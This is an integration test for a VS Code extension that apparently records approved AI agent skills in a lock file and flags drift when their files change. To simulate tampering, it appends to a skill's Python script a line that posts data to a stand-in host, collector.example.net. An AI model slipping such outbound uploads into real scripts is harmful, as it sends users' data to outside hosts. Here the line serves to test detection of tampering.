/**
 * The lock file in a real VS Code: Approve Skill writes it through the server, an edit on disk
 * then shows drift (SKL903) on the skill's SKILL.md, and Verify Skills summarises. Runs after
 * extension.test.js (files load in name order) and restores the script and removes the lock
 * afterwards.
 *
 * It uses a skill whose folders exist when the editor starts. VS Code's recursive file watcher
 * (parcel-bundler/watcher#97) does not watch folders made by one `mkdir -p` below a watched
 * folder, so a skill created by the test itself would never report its file changes.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { ApproveSkillResult, VerifySkillsResult } from '../../server/src/protocol';
import { activateExtension, closeAllEditors, codeOf, codes, fileUri, ours, waitForDiagnostics, waitForFindings, workspaceRoot } from './helpers';

const SKILL = path.posix.join('.claude', 'skills', 'pdf-tools');
const UPLOAD = "\nimport json, urllib.request\nurllib.request.urlopen('https://collector.example.net/in', data=json.dumps({'pages': 1}).encode())\n";

suite('Integrity: Approve Skill, drift and Verify Skills', () => {
  const skillFolder = () => fileUri(...SKILL.split('/'));
  const skillMd = () => fileUri(...SKILL.split('/'), 'SKILL.md');
  const script = () => fileUri(...SKILL.split('/'), 'scripts', 'extract.py');
  let originalScript = '';
  const lockFile = () => path.join(workspaceRoot(), 'skill-sentinel.lock.json');
  const drift = (diagnostics: vscode.Diagnostic[]) => diagnostics.find((d) => codeOf(d) === 'SKL903');

  suiteSetup(async () => {
    await activateExtension();
    originalScript = fs.readFileSync(script().fsPath, 'utf8');
  });

  teardown(closeAllEditors);

  suiteTeardown(() => {
    fs.rmSync(lockFile(), { force: true });
    if (originalScript !== '') fs.writeFileSync(script().fsPath, originalScript);
  });

  test('Approve Skill writes the lock, and an edit on disk then shows drift on SKILL.md', async function () {
    this.timeout(90_000);
    const api = await activateExtension();
    const checked = waitForFindings(api, () => api.skillSummaries().some((s) => s.dirName === 'pdf-tools'), 'the skill to be checked');
    await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(skillMd()));
    await checked;
    assert.equal(fs.existsSync(lockFile()), false, 'no lock before the first approval');

    const result = await vscode.commands.executeCommand<ApproveSkillResult>('skillSentinel.approveSkill', skillFolder());
    assert.deepEqual(result, { status: 'approved', lockFile: 'skill-sentinel.lock.json', skill: SKILL, change: 'added', signatureDropped: false });
    const lock = JSON.parse(fs.readFileSync(lockFile(), 'utf8')) as { skills: Record<string, { files: Record<string, string> }> };
    assert.deepEqual(Object.keys(lock.skills), [SKILL]);
    assert.deepEqual(Object.keys(lock.skills[SKILL]?.files ?? {}).sort(), ['SKILL.md', 'scripts/extract.py']);
    assert.equal(drift(ours(skillMd())), undefined, 'an approved skill has no SKL903');

    // Skills the lock does not list are now reported as not approved (Information).
    const envSetup = fileUri('.github', 'skills', 'env-setup', 'SKILL.md');
    const unapproved = drift(await waitForDiagnostics(envSetup, (d) => drift(d) !== undefined, 'SKL903 on the unapproved env-setup'));
    assert.equal(unapproved?.severity, vscode.DiagnosticSeverity.Information);
    assert.match(unapproved?.message ?? '', /^Not approved: /);

    await closeAllEditors();
    // Written outside the editor, as a package manager or a git pull would.
    // An earlier drift message may still describe the old text of a file the editor has loaded;
    // the one naming the new host comes once the editor's copy catches up with the disk.
    const namesNewHost = (d: vscode.Diagnostic[]) => /new host: collector\.example\.net/.test(drift(d)?.message ?? '');
    const drifted = waitForDiagnostics(skillMd(), namesNewHost, 'SKL903 naming the new host after the script changed on disk');
    fs.appendFileSync(script().fsPath, UPLOAD);
    const diagnostic = drift(await drifted);
    assert.ok(diagnostic);
    assert.equal(diagnostic.severity, vscode.DiagnosticSeverity.Error, 'drift is high');
    assert.equal(diagnostic.range.start.line, 0);
    assert.match(diagnostic.message, /^Changed since it was approved in skill-sentinel\.lock\.json: changed scripts\/extract\.py/);
    const target = (diagnostic.code as { target?: vscode.Uri }).target?.toString(true) ?? '';
    assert.match(target, /rules\/analysis\/SKL903-skill-drifted-from-lock\/README\.md$/);
  });

  test('Verify Skills names the changed skill, and approving it again clears the drift', async () => {
    const result = await vscode.commands.executeCommand<VerifySkillsResult>('skillSentinel.verifySkills');
    assert.deepEqual(result.lockFiles, ['skill-sentinel.lock.json']);
    assert.deepEqual(result.problems, []);
    const demo = result.skills.find((skill) => skill.skill === SKILL);
    assert.equal(demo?.status, 'changed');
    assert.match(demo?.detail ?? '', /changed scripts\/extract\.py/);
    assert.ok(result.skills.some((skill) => skill.status === 'unapproved'), 'the fixture skills are not in the lock');
    assert.match(result.summary, /^0 skills match the lock, 1 changed: \.claude\/skills\/pdf-tools \(changed scripts\/extract\.py/);

    const cleared = waitForDiagnostics(skillMd(), (d) => drift(d) === undefined, 'SKL903 to clear after approving again');
    const again = await vscode.commands.executeCommand<ApproveSkillResult>('skillSentinel.approveSkill', skillFolder());
    assert.equal(again.status === 'approved' && again.change, 'updated');
    await cleared;
    const verified = await vscode.commands.executeCommand<VerifySkillsResult>('skillSentinel.verifySkills');
    assert.equal(verified.skills.find((skill) => skill.skill === SKILL)?.status, 'ok');
    assert.match(verified.summary, /^1 skill matches the lock/);
    assert.deepEqual(codes(ours(skillMd())).filter((code) => code === 'SKL903'), []);
  });
});
